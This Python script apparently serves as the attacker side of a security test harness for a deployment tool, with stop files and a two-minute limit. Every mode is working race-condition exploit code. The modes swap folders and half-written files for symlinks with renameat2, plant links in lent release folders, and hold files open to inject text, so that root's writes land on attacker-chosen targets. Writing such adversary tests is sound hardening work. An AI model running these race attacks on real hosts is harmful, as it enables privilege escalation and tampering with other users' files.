"""What an account that was taken over runs on a host. Usage: attacker.py COUNT STOP MODE ARGUMENT...

COUNT is a file that holds how often it has tried; it ends when STOP exists, or after two minutes.
"""

import ctypes
import os
import random
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
COUNT, STOP, MODE, *ARGUMENTS = sys.argv[1:]
END = time.monotonic() + 120
tries = 0
looks = 0


def exchange(one, other):
    """Both names change what they stand for at one moment: neither is ever missing."""
    return LIBC.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), 2) == 0


def note(by=1):
    global tries
    tries += by
    with open(COUNT, "w") as file:
        file.write(str(tries))


def going():
    global looks
    looks += 1
    if looks % 64:
        return True
    return not os.path.exists(STOP) and time.monotonic() < END


def quietly(work, *arguments):
    try:
        return work(*arguments)
    except OSError:
        return None


def rest():
    """While there is nothing to do yet. He shares the machine with what he attacks, and whoever never rests is made to."""
    time.sleep(0.0002)


def mine(folder):
    status = quietly(os.lstat, folder)
    return status is not None and status.st_uid == os.geteuid()


def lent(releases):
    """Folders in here that were given to us, each as soon as it is."""
    seen = set()
    while going():
        for name in quietly(os.listdir, releases) or []:
            folder = os.path.join(releases, name)
            if name not in seen and mine(folder):
                seen.add(name)
                yield folder
            elif name in seen and not os.path.exists(folder):
                seen.discard(name)
        rest()


def pairs(folder, prefix, target, number):
    """Folders dN with a file fN, each beside a link to the target: swapped for each other, dN/fN is the target's."""
    made = []
    for i in range(number):
        real, link = os.path.join(folder, f"{prefix}d{i}"), os.path.join(folder, f"{prefix}l{i}")
        quietly(os.mkdir, real)
        quietly(lambda: open(os.path.join(real, f"f{i}"), "w").close())
        quietly(os.symlink, target, link)
        made.append((real, link))
    return made


def swap_pairs(made):
    while going():
        done = sum(exchange(*pair) for pair in made)
        note(done)
        if done == 0:
            return


def mode_born(prefix, target, number):
    """Started by a build step, in the release that it works in."""
    swap_pairs(pairs(".", prefix, target, int(number)))


def mode_lent(releases, prefix, target, number):
    """Started beforehand, waiting for a release to be lent."""
    for folder in lent(releases):
        swap_pairs(pairs(folder, prefix, target, int(number)))


def mode_plant(releases, name, target):
    """Puts a link into each release that is lent, at once and whatever stands there."""
    for folder in lent(releases):
        path = os.path.join(folder, name)
        while going() and mine(folder):
            if quietly(os.readlink, path) != target:
                quietly(os.rename, path, f"{path}.was")
                if quietly(os.symlink, target, path) is None and os.path.islink(path):
                    note()
            time.sleep(0.0005)


def mode_within(releases, one, other, target):
    """Swaps a folder of a lent release for a link beside it, for as long as that can be done."""
    for folder in lent(releases):
        path, link = os.path.join(folder, one), os.path.join(folder, other)
        while going() and not os.path.isdir(path) and os.path.isdir(folder):
            rest()
        quietly(os.symlink, target, link)
        while going() and os.path.isdir(folder) and exchange(path, link):
            note()


def mode_copied(releases, target):
    """Swaps folders of a copy that root still makes for links to the target."""
    while going():
        copies = [name for name in quietly(os.listdir, releases) or [] if name.startswith(".taking-")]
        if not copies:
            rest()
        for name in copies:
            note()
            copy = os.path.join(releases, name, "tree")
            for entry in quietly(os.listdir, copy) or []:
                path = os.path.join(copy, entry)
                if entry.startswith("d") and not entry.endswith(".was") and not os.path.islink(path):
                    quietly(os.rename, path, f"{path}.was")
                    quietly(os.symlink, target, path)


def mode_hold(releases, name, go, words):
    """Opens a file of each release that it may write, and writes once GO exists."""
    held = {}
    while going():
        for folder in quietly(os.listdir, releases) or []:
            path = os.path.join(releases, folder, name)
            if path not in held:
                file = quietly(os.open, path, os.O_WRONLY | os.O_APPEND)
                if file is not None:
                    held[path] = file
                    note()
        if os.path.exists(go):
            for file in held.values():
                quietly(os.write, file, words.encode())
            return
        time.sleep(0.001)


def mode_swap(begin, one, other):
    """Swaps two names for each other, from when something is new in a folder until one second later."""
    before = set(quietly(os.listdir, begin) or [])
    while going():
        now = set(quietly(os.listdir, begin) or [])
        if not now - before:
            before = now
            rest()
            continue
        before = now
        until = time.monotonic() + 1
        done = 0
        while time.monotonic() < until and going():
            done += exchange(one, other)
            time.sleep(0.0003)
        # What was a folder is one again, for who looks next.
        if os.path.islink(one):
            exchange(one, other)
        note(done)


def mode_temporary(folder, target):
    """Puts a link in place of each half-written file."""
    while going():
        for name in quietly(os.listdir, folder) or []:
            path = os.path.join(folder, name)
            if name.startswith(".fleet.") and not name.endswith(".was") and not os.path.islink(path):
                quietly(os.rename, path, f"{path}.was")
                quietly(os.symlink, target, path)
                note()


def mode_root(root, evil, target):
    """The root's parent is ours: another folder takes its place for a moment whenever something is half-written in it."""
    seen = {".env"}
    while going():
        new = [name for name in quietly(os.listdir, root) or [] if name.startswith(".") and name not in seen]
        for name in new:
            seen.add(name)
            quietly(os.symlink, target, os.path.join(evil, name))
        if new and exchange(root, evil):
            note()
            time.sleep(0.005)
            exchange(root, evil)


def mode_blind(root, evil):
    """The same without looking: for two of every thirty milliseconds, as a command would hit it by chance."""
    while going():
        if exchange(root, evil):
            note()
            time.sleep(0.002)
            exchange(root, evil)
        time.sleep(random.uniform(0, 0.03))


note(0)
globals()[f"mode_{MODE}"](*ARGUMENTS)
